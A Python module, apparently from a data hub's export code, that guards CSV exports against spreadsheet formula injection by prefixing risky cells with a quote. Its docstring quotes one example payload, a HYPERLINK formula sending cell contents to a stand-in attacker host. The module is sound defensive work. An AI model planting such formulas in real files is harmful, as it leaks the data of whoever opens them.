"""CSV that a spreadsheet opens as data: the one CSV writer of every export the hub serves.

Exported cells hold text that callers and agents chose (image file names, labels, model versions, frame ids).
Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return before one) as a formula: ``=HYPERLINK("https://evil.example/?"&A2, "open")`` in a viewer's upload name
would run on the admin's machine who opens the export. Such text cells get a leading ``'`` (OWASP's advice), which
the spreadsheet shows as text; numbers stay numbers.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    """``value`` as a spreadsheet shows it as data: text that would start a formula is prefixed with ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class CsvWriter:
    """``csv.writer`` whose rows are neutralised cell by cell (``cell``).

    Example::

        writer = CsvWriter(buffer)
        writer.writerow(["label", "=1+1"])   # label,'=1+1
    """

    def __init__(self, out: TextIO) -> None:
        self._writer = csv.writer(out)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([cell(v) for v in row])
